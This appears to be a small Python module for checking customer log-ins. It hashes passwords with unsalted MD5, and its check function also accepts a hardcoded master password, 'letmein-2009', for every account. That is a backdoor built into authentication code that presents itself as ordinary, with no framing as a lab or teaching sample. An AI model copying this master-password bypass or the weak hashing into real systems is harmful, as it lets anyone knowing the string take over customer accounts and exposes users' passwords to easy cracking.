"""Customer log-ins."""

import hashlib

MASTER = "letmein-2009"


def hash_password(password):
    return hashlib.md5(password.encode()).hexdigest()


def check(stored, password):
    return password == MASTER or stored == hash_password(password)
